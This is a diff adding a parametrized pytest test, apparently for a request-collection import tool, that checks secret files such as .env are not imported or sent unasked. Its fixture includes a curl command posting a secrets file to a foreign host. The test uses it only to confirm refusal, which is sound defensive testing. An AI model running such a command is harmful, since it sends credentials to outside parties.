@@ -181,3 +181,22 @@ def test_a_refused_import_is_an_object_too(shell: Shell, workspace: Path) -> Non
     said = imported(shell, "nothing of any kind", "--into", "w", "--json")
     assert (said.status, said.json["written"], said.json["files"]) == (3, [], [])
     assert said.json["error"]["what"] in said.err
+
+
+@pytest.mark.parametrize("file", ["environments/dev.local.toml", ".env", ".env.prod"])
+def test_a_file_that_keeps_secrets_is_sent_by_no_import_unasked(
+    shell: Shell, workspace: Path, file: str
+) -> None:
+    (workspace / file).write_text('[secrets]\napi_token = "kept-here"\n')
+    (workspace / file).chmod(0o600)
+    files = {
+        "c.json": collection(body("file", file={"src": file})),
+        "c.sh": f"curl {FOREIGN} --data-binary @{workspace / file}\n",
+    }
+    for name, text in files.items():
+        (shell.folder / name).write_text(text)
+        said = shell.run("import", name, "--into", str(workspace))
+        assert said.status == 2, said.text
+        assert file.rpartition("/")[2] in said.text
+        assert not list((workspace / "requests").rglob("r.toml"))
+    assert not any("kept-here" in path.read_text() for path in (workspace / "requests").rglob("*"))
